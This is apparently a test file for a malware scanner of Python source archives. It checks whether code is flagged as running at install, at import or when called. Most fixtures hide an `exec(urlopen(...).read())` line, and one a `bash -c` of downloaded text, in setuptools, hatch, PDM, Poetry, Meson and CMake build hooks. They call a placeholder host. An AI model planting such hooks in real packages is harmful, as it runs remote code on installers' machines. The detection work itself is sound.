import { describe, expect, test } from 'vitest';
import { analyse } from '../../../src/analysis/analyse.ts';
import { DEFAULT_LIMITS } from '../../../src/analysis/archive/archive.ts';
import { bytesSource } from '../../../src/analysis/archive/bytes.ts';
import { openArchive } from '../../../src/analysis/archive/open-archive.ts';
import { makeSdist } from '../../support/make-sdist.ts';

const filename = 'example-1.0.0.tar.gz';
const backend = `import urllib.request

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    exec(urllib.request.urlopen('http://files.example.invalid/p').read())
`;
const plain = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n';

/** When the worst finding of an sdist runs. */
async function contextOf(files: Readonly<Record<string, string>>, pyproject: string): Promise<string | undefined> {
  const bytes = makeSdist(files, { pyproject });
  const opened = await openArchive(bytesSource(bytes), filename, DEFAULT_LIMITS);
  if (opened.kind !== 'opened') throw new Error(opened.unscannable.message);
  const { findings } = analyse(opened.archive, { filename, sha256: 'a'.repeat(64), sizeBytes: bytes.length });
  return findings.find((finding) => finding.class === 'malware')?.context;
}

const setuptools = '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n';
const backendOf = (name: string): string => `[build-system]\nrequires = ["${name}"]\nbuild-backend = "${name}"\n`;
const attack = `urllib.request.urlopen('http://files.example.invalid/p').read()`;
const atImport = `import urllib.request\nexec(${attack})\n`;
const within = (definition: string): string => `import urllib.request\n\n${definition}\n        exec(${attack})\n`;
const command = within('class Command:\n    def run(self):');
const inFunction = (name: string): string => within(`if True:\n    def ${name}(*args, **kwargs):`);

describe('a build runs at install what its configuration names', () => {
  test.each([
    [
      'a command class of setup.cfg',
      { 'commands.py': command, 'setup.cfg': '[options]\ncmdclass =\n    egg_info = commands.Command\n' },
      setuptools,
    ],
    [
      'a command class of pyproject.toml',
      { 'commands.py': command },
      `${setuptools}[tool.setuptools.cmdclass]\nbuild_py = "commands.Command"\n`,
    ],
    [
      'a command class under an escaped, quoted key',
      { 'commands.py': command },
      `${setuptools}[tool.setuptools]\n"cmd\\u0063lass" = { "build_py" = "commands.Command" }\n`,
    ],
    [
      'a package of commands',
      {
        'mine/__init__.py': '',
        'mine/install_scripts.py': command.replace('Command', 'install_scripts'),
        'setup.cfg': '[global]\ncommand-packages = mine\n',
      },
      setuptools,
    ],
    [
      'a set-up hook',
      { 'hooks.py': inFunction('adjust'), 'setup.cfg': '[global]\nsetup-hooks =\n    hooks.adjust\n' },
      setuptools,
    ],
    [
      'a version read from a module in a folder of its own',
      {
        'setup.cfg': '[metadata]\nversion = attr: release.current\n[options]\npackage_dir =\n    = tools/python\n',
        'tools/python/release.py': `${atImport}current = str(1)\n`,
      },
      setuptools,
    ],
    [
      'a version under a quoted key',
      { 'docs/release.py': `${atImport}current = str(1)\n` },
      `${setuptools}[tool.setuptools.dynamic]\nversion = { "attr" = "docs.release.current" }\n`,
    ],
    [
      'a hook of hatch',
      { 'hatch_build.py': within('class Hook(BuildHookInterface):\n    def initialize(self, version, build_data):') },
      `${backendOf('hatchling')}[tool.hatch.build.hooks.custom]\n`,
    ],
    [
      'a hook of hatch at another path',
      {
        'tools/steps.py': within('class Hook(BuildHookInterface):\n    def finalize(self, version, build_data, path):'),
      },
      `${backendOf('hatchling')}[tool.hatch.build.targets.wheel.hooks.custom]\npath = "tools/steps.py"\n`,
    ],
    [
      'a hook of hatch.toml',
      {
        'hatch.toml': '[metadata.hooks.custom]\npath = "scripts/fields.py"\n',
        'scripts/fields.py': within('class Fields(MetadataHookInterface):\n    def update(self, metadata):'),
      },
      backendOf('hatchling'),
    ],
    [
      'code that computes the version for hatch',
      { 'scripts/release.py': `${atImport}__version__ = str(1)\n` },
      `${backendOf('hatchling')}[tool.hatch.version]\nsource = "code"\npath = "scripts/release.py"\n`,
    ],
    [
      'a build script of Poetry',
      { 'scripts/compile.py': `import urllib.request\nif __name__ == '__main__':\n    exec(${attack})\n` },
      `${backendOf('poetry.core')}[tool.poetry.build]\nscript = "scripts/compile.py"\n`,
    ],
    [
      'a build script of Poetry, as it was written before',
      { 'build.py': inFunction('build') },
      `${backendOf('poetry.core')}[tool.poetry]\nbuild = "build.py"\n`,
    ],
    [
      'a hook of PDM',
      { 'pdm_build.py': inFunction('pdm_build_initialize') },
      `${backendOf('pdm.backend')}[tool.pdm]\ndistribution = true\n`,
    ],
    [
      'a hook of PDM at another path',
      { 'tools/steps.py': inFunction('pdm_build_finalize') },
      `${backendOf('pdm.backend')}[tool.pdm.build]\ncustom-hook = "tools/steps.py"\n`,
    ],
    [
      'a function that tells PDM the version',
      { 'example/__init__.py': '', 'example/release.py': inFunction('current') },
      `${backendOf('pdm.backend')}[tool.pdm.version]\nsource = "call"\ngetter = "example.release:current"\n`,
    ],
    [
      'a script that Meson runs',
      { 'meson.build': "project('x')\nrun_command('tools/gen.py')\n", 'tools/gen.py': atImport },
      backendOf('mesonpy'),
    ],
    [
      'a script that CMake runs',
      {
        'CMakeLists.txt': 'execute_process(COMMAND ${Python_EXECUTABLE} ${CMAKE_SOURCE_DIR}/cmake/gen.py)\n',
        'cmake/gen.py': atImport,
      },
      backendOf('scikit_build_core.build'),
    ],
  ])('%s', async (_what, files, pyproject) => {
    expect(await contextOf(files, pyproject)).toBe('install');
  });

  test.each([
    [
      'a class of distributions',
      `setup(name='x', distclass=Mine)`,
      'class Mine(Distribution):\n    def parse_config_files(self):',
    ],
    ['a function that is handed over', `setup(name='x', use_scm_version=Mine)`, 'if True:\n    def Mine():'],
    [
      'a command that another is told to run',
      `build.sub_commands.append(('fetch_parts', None))\nsetup(name='x', cmdclass={'fetch_parts': Mine})`,
      'class Mine(Command):\n    def run(self):',
    ],
  ])('setup.py: %s', async (_what, call, definition) => {
    const setup = `from setuptools import Command, Distribution, setup\nfrom setuptools.command.build import build\n${within(definition)}\n${call}\n`;

    expect(await contextOf({ 'setup.py': setup }, 'none')).toBe('install');
  });

  test.each([
    [
      'a plug-in of setuptools',
      'entry_points.txt',
      '[distutils.commands]\nbuild_parts = example.plug:Mine\n',
      'class Mine(Command):\n    def run(self):',
    ],
    [
      'a function that setuptools calls for every distribution',
      'entry_points.txt',
      '[setuptools.finalize_distribution_options]\nparts = example.plug:mine\n',
      'if True:\n    def mine(dist):',
    ],
  ])('of another distribution: %s', async (_what, file, entries, definition) => {
    const files = { 'example/__init__.py': '', 'example/plug.py': within(definition) };

    expect(await contextOf({ ...files, [`example.egg-info/${file}`]: entries }, backendOf('hatchling'))).toBe(
      'install',
    );
  });

  test.each([
    ['pyproject.toml', {}, `${setuptools}[project.entry-points.pytest11]\nexample = "example.plug"\n`],
    [
      'a section of Poetry',
      {},
      `${backendOf('poetry.core')}[tool.poetry.plugins."pytest11"]\nexample = "example.plug"\n`,
    ],
    ['setup.cfg', { 'setup.cfg': '[options.entry_points]\npytest11 =\n    example = example.plug\n' }, setuptools],
  ])('a plug-in that %s declares is loaded by its host', async (_what, more, pyproject) => {
    const files = { 'example/__init__.py': '', 'example/plug.py': inFunction('pytest_configure'), ...more };

    expect(await contextOf(files, pyproject)).toBe('import');
  });

  test('a module that cffi is told to execute', async () => {
    const files = {
      'setup.py': "from setuptools import setup\nsetup(name='x', cffi_modules=['tools/parts.py:ffi'])\n",
      'tools/parts.py': atImport,
    };

    expect(await contextOf(files, 'none')).toBe('install');
  });

  test('a shell that runs what was received', async () => {
    const version = `import subprocess\nimport urllib.request\nscript = ${attack}.decode()\ncurrent = subprocess.check_output(['bash', '-c', script])\n`;
    const files = { 'example/__init__.py': '', 'example/version.py': version };
    const pyproject = `${setuptools}[tool.setuptools.dynamic]\nversion = {attr = "example.version.current"}\n`;

    expect(await contextOf(files, pyproject)).toBe('install');
  });
});

test('a module that Poetry is told to pack is not run by the build', async () => {
  const pyproject = `${backendOf('poetry.core')}[tool.poetry]\nname = "x"\npackages = [{ include = "late.py" }]\n`;

  expect(await contextOf({ 'late.py': atImport }, pyproject)).toBe('import');
});

describe('a backend inside the archive runs at install', () => {
  test.each([
    ['a table', plain],
    ['an inline table', 'build-system = { requires = [], build-backend = "backend", backend-path = ["."] }\n'],
    ['dotted keys', 'build-system.build-backend = "backend"\nbuild-system.backend-path = ["."]\n'],
    ['quoted keys', '[build-system]\n"build-backend" = "backend"\n"backend-path" = ["."]\n'],
    ['escapes', '[build-system]\n"build\\u002dbackend" = "\\u0062ackend"\n"backend\\u002Dpath" = ["."]\n'],
    ['a decoy before it', `[tool.decoy]\nbuild-backend = "setuptools.build_meta"\n\n${plain}`],
  ])('however the file spells it: %s', async (_what, pyproject) => {
    expect(await contextOf({ 'backend.py': backend }, pyproject)).toBe('install');
  });

  test('also where the top folder of the archive is a package as well', async () => {
    expect(await contextOf({ 'backend.py': backend, '__init__.py': '' }, plain)).toBe('install');
  });

  test('also from a folder that looks like tests', async () => {
    const pyproject = plain.replace('["."]', '[ # the folder\n  "tests"]');

    expect(await contextOf({ 'tests/backend.py': backend }, pyproject)).toBe('install');
  });

  test('also where it takes its hooks from elsewhere', async () => {
    const files = { 'backend.py': `${atImport}from setuptools.build_meta import *\n` };
    const pyproject = 'build-system = { requires = [], "build-backend" = "backend", backend-path = ["."] }\n';

    expect(await contextOf(files, pyproject)).toBe('install');
  });

  test.each([
    ['asks for more than front ends hand over', 'if True:\n    def build_wheel(project, folder, target, resolver):'],
    ['takes no folder', 'if True:\n    def build_wheel(**options):'],
    ['is a method', 'class Project:\n    def build_wheel(self, folder):'],
    ['is made within another', 'def project():\n    def build_wheel(folder):'],
    ['is called', 'from tool import build_wheel\ndef make(folder):\n    build_wheel(folder)\n    if folder:'],
  ])('not a function of that name that %s', async (_why, definition) => {
    const steps = `import subprocess\nimport urllib.request\n\n${definition}\n        subprocess.run(['bash', '-c', ${attack}])\n`;

    expect(await contextOf({ 'backend.py': '', 'more/steps.py': steps }, plain)).toBe('call');
  });

  test.each([
    [
      'a function gives to the module',
      `def make():\n    global build_wheel\n    def build_wheel(folder, *rest):\n        exec(${attack})\nmake()`,
    ],
    [
      'takes the folder and more that may be left out',
      `def build_wheel(folder, a=None, b=None, c=None):\n    exec(${attack})`,
    ],
    ['a decorator makes fit', `@fit\ndef build_wheel(folder, a, b, c):\n    exec(${attack})`],
  ])('a hook that %s is one, wherever it lies', async (_why, text) => {
    const files = { 'backend.py': '', 'tool/steps.py': `import urllib.request\nfrom tool.more import fit\n${text}\n` };

    expect(await contextOf(files, plain.replace('["."]', '["to\\x6fl"]'))).toBe('install');
  });

  test('a function of that name is nothing of its own', async () => {
    const pyproject = '[build-system]\nrequires = []\nbuild-backend = "setuptools.build_meta"\n';

    expect(await contextOf({ 'backend.py': backend }, pyproject)).toBe('call');
  });
});

test('settings of another tool in setup.cfg declare no plug-in', async () => {
  const files = {
    'example/__init__.py': inFunction('main'),
    'setup.cfg': '[versioneer]\nversionfile_source = example/_version.py\n',
  };

  expect(await contextOf(files, 'none')).toBe('call');
});

test('plug-ins that pbr reads from setup.cfg are loaded by their hosts', async () => {
  const files = {
    'example/__init__.py': '',
    'example/plug.py': inFunction('pytest_configure'),
    'setup.cfg': '[metadata]\nname = example\n[entry_points]\npytest11 =\n    example = example.plug\n',
  };

  expect(await contextOf(files, setuptools)).toBe('import');
});
